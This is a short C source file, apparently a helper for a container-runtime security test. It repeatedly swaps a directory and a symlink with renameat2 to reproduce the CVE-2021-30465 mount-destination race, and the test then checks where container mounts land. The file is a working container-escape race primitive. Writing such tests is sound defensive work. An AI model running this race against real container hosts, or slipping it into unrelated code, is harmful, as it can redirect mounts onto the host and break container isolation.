/* A symlink swapped into a mount destination while the runtime creates a
 * container (the CVE-2021-30465 class).
 *
 *   esc_symlink_swap DIR TARGET [--hold-link]
 *
 * Makes DIR/d a directory and DIR/l a symlink to TARGET, then exchanges
 * the two names with renameat2(RENAME_EXCHANGE) as fast as it can, so
 * that DIR/d is a symlink to TARGET half of the time, until SIGTERM,
 * SIGINT or SIGUSR1.  --hold-link: one exchange, then wait (DIR/d stays
 * the symlink).  The test creates containers with a mount destination
 * inside DIR/d meanwhile and checks where their mounts land; this program
 * only prints "swapping" when it starts and "swaps N" at the end (or
 * "error ..." when it cannot, e.g. on a read-only DIR: exit 2). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>

#include "escape.h"

static volatile sig_atomic_t stop;
static void on_stop(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv)
{
    if (argc < 3 || argc > 4 || (argc == 4 && strcmp(argv[3], "--hold-link") != 0))
        esc_error("usage: esc_symlink_swap DIR TARGET [--hold-link]");
    char d[4096], l[4096];
    snprintf(d, sizeof(d), "%s/d", argv[1]);
    snprintf(l, sizeof(l), "%s/l", argv[1]);
    if (mkdir(d, 0755) < 0 && errno != EEXIST)
        esc_error("mkdir %s: %s", d, strerror(errno));
    if (unlink(l) < 0 && errno != ENOENT)
        esc_error("unlink %s: %s", l, strerror(errno));
    if (symlink(argv[2], l) < 0)
        esc_error("symlink %s: %s", l, strerror(errno));
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_stop;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGUSR1, &sa, NULL);
    printf("swapping\n");
    fflush(stdout);
    unsigned long n = 0;
    if (argc == 4) {
        if (renameat2(AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) < 0)
            esc_error("renameat2(RENAME_EXCHANGE): %s", strerror(errno));
        n = 1;
        while (!stop)
            pause();
    } else {
        while (!stop) {
            if (renameat2(AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) < 0)
                esc_error("renameat2(RENAME_EXCHANGE) after %lu swaps: %s", n, strerror(errno));
            n++;
        }
        if (n % 2) /* leave DIR/d the directory */
            renameat2(AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE);
    }
    printf("swaps %lu\n", n);
    return 0;
}
